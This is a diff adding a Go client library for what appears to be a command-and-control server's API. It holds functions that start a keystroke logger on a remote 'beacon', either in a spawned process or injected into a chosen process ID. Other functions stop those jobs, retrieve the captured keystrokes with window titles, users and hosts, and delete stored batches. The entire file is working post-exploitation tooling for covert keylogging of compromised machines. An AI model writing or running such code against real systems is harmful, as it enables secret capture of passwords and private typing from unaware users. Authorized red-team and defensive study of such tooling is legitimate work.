@@ -0,0 +1,119 @@
+package csclient
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"time"
+)
+
+// KeyLoggerInjectDto injects the keystroke logger into a process
+type KeyLoggerInjectDto struct {
+	PID  int    `json:"pid"`
+	Arch string `json:"arch"`
+}
+
+// KeypressDto is a run of keys typed into one window
+type KeypressDto struct {
+	Title    string `json:"title,omitempty"`
+	Keypress string `json:"keypress"`
+}
+
+// KeystrokeDto is a batch of captured keystrokes in the data model
+type KeystrokeDto struct {
+	ID         string        `json:"id"`
+	BID        string        `json:"bid"`
+	Keystrokes []KeypressDto `json:"keystrokes"`
+	Session    int           `json:"session"`
+	Host       string        `json:"host"`
+	Title      string        `json:"title"`
+	User       string        `json:"user"`
+	Timestamp  time.Time     `json:"timestamp"`
+}
+
+// Text concatenates the captured keypresses
+func (k *KeystrokeDto) Text() string {
+	var sb strings.Builder
+	for _, kp := range k.Keystrokes {
+		sb.WriteString(kp.Keypress)
+	}
+	return sb.String()
+}
+
+// KeyloggerStart starts the keystroke logger job. With pid 0 and an empty arch
+// the logger runs in a spawned process; otherwise it is injected into pid.
+func (c *Client) KeyloggerStart(ctx context.Context, bid string, pid int, arch string) (*AsyncCommandResponse, error) {
+	var resp AsyncCommandResponse
+	if pid == 0 && arch == "" {
+		path, err := beaconPath(bid, "/spawn/keylogger")
+		if err != nil {
+			return nil, fmt.Errorf("failed to start keylogger: %w", err)
+		}
+		if err := c.doRequest(ctx, "POST", path, EmptyDto{}, &resp, true); err != nil {
+			return nil, fmt.Errorf("failed to start keylogger: %w", err)
+		}
+		return &resp, nil
+	}
+
+	if err := validatePID(pid); err != nil {
+		return nil, fmt.Errorf("failed to start keylogger: %w", err)
+	}
+	if err := validateTargetArch(arch); err != nil {
+		return nil, fmt.Errorf("failed to start keylogger: %w", err)
+	}
+	if err := c.preflightInject(ctx, bid, "keylogger", pid, arch); err != nil {
+		return nil, fmt.Errorf("failed to start keylogger: %w", err)
+	}
+	path, err := beaconPath(bid, "/inject/keylogger")
+	if err != nil {
+		return nil, fmt.Errorf("failed to start keylogger: %w", err)
+	}
+	if err := c.doRequest(ctx, "POST", path, KeyLoggerInjectDto{PID: pid, Arch: arch}, &resp, true); err != nil {
+		return nil, fmt.Errorf("failed to start keylogger: %w", err)
+	}
+	return &resp, nil
+}
+
+// KeyloggerStop stops the beacon's keystroke logger jobs. The job list is
+// fetched first, so this waits for a beacon checkin.
+func (c *Client) KeyloggerStop(ctx context.Context, bid string) ([]*AsyncCommandResponse, error) {
+	responses, err := c.stopJobsMatching(ctx, bid, "keystroke logger")
+	if err != nil {
+		return responses, fmt.Errorf("failed to stop keylogger: %w", err)
+	}
+	return responses, nil
+}
+
+// ListKeystrokes retrieves the keystrokes captured by all beacons
+func (c *Client) ListKeystrokes(ctx context.Context) ([]KeystrokeDto, error) {
+	var keystrokes []KeystrokeDto
+	if err := c.doRequest(ctx, "GET", "/api/v1/data/keystrokes", nil, &keystrokes, true); err != nil {
+		return nil, fmt.Errorf("failed to list keystrokes: %w", err)
+	}
+	return keystrokes, nil
+}
+
+// ListBeaconKeystrokes retrieves the keystrokes captured by a beacon
+func (c *Client) ListBeaconKeystrokes(ctx context.Context, bid string) ([]KeystrokeDto, error) {
+	var keystrokes []KeystrokeDto
+	path, err := beaconPath(bid, "/keystrokes")
+	if err != nil {
+		return nil, fmt.Errorf("failed to list keystrokes: %w", err)
+	}
+	if err := c.doRequest(ctx, "GET", path, nil, &keystrokes, true); err != nil {
+		return nil, fmt.Errorf("failed to list keystrokes: %w", err)
+	}
+	return keystrokes, nil
+}
+
+// DeleteKeystrokes deletes a keystroke batch from the data model
+func (c *Client) DeleteKeystrokes(ctx context.Context, id string) error {
+	escaped, err := escapePathParam("keystroke ID", id)
+	if err != nil {
+		return fmt.Errorf("failed to delete keystrokes: %w", err)
+	}
+	if err := c.doRequest(ctx, "DELETE", "/api/v1/data/keystrokes/"+escaped, nil, nil, true); err != nil {
+		return fmt.Errorf("failed to delete keystrokes: %w", err)
+	}
+	return nil
+}